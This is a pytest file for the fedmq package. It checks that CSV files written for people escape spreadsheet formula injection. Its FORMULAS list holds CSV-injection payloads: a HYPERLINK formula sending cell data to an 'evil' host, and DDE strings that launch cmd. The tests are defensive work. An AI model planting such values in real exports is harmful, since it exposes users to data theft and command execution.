"""Another party names itself, or a person, so that a spreadsheet runs the cell as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pytest

import fedmq
from fedmq.cli.score_output import ScoreRows, write_file
from fedmq.evaluation.evaluate import ScoredRows
from fedmq.party.atomic_file import csv_for_people
from fedmq.party.configuration.data import DataSection
from fedmq.workbench import evaluation

FORMULAS = (
    '=HYPERLINK("http://evil/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
)
HARMLESS = ("p01", "7", "-7", "+4915112345678", "-1.5e-3", "-inf", "", "a=b", "'=1")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet computes it: a sign before a number is a number's."""
    begun = cell.lstrip("\t\r\n ")
    return begun[:1] in tuple("=@+-") and re.fullmatch(r"[+-][0-9.einf+-]+", begun) is None


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_written_as_a_text(formula: str) -> None:
    assert is_formula(formula)
    assert cells(csv_for_people([(formula, 1.5)])) == [f"'{formula}", "1.5"]


@pytest.mark.parametrize("text", HARMLESS)
def test_all_else_is_written_as_it_is(text: str) -> None:
    assert cells(csv_for_people([(text, "end")])) == [text, "end"]


def test_no_cell_of_a_file_of_scores_is_a_formula(tmp_path: Path) -> None:
    ids = list(FORMULAS)
    result = {
        "scores": [0.1] * len(ids),
        "unknown_at": [["telco"]] * len(ids),
        "without": ["retail"],
        "fallback": ["m-without-telco"] * len(ids),
        "players": ["bank", FORMULAS[0], "bias"],
        "contributions": [[[0.1, -0.2, 0.3]]] * len(ids),
    }
    scored = ScoreRows.of(FORMULAS[1], ids, result, strict=False)
    write_file(tmp_path / "scores.csv", scored, DataSection(path=tmp_path, id="id"))
    written = cells((tmp_path / "scores.csv").read_text(encoding="utf-8"))
    assert not [cell for cell in written if is_formula(cell)]
    assert "-0.2" in written


def test_no_cell_of_an_evaluation_is_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(evaluation, "html_of", lambda _: "")

    class Report:
        def model_dump_json(self, **_: object) -> str:
            return "{}"

    ones = np.ones(len(FORMULAS), np.float32)
    rows = ScoredRows(ids=FORMULAS, sets=FORMULAS, label=ones, score=-ones)
    evaluation._write(tmp_path, Report(), rows, FORMULAS[0])  # type: ignore[arg-type]
    written = cells((tmp_path / "scores.csv").read_text(encoding="utf-8"))
    assert not [cell for cell in written if is_formula(cell)]
    assert "-1" in written


def test_files_for_people_are_written_in_one_place() -> None:
    """Beside it only what fedmq itself reads again, and the example of `fedmq init`."""
    package = Path(fedmq.__file__).parent
    writers = {
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8")
    }
    assert writers == {"party/atomic_file.py", "party/store/documents.py", "cli/set_up.py"}
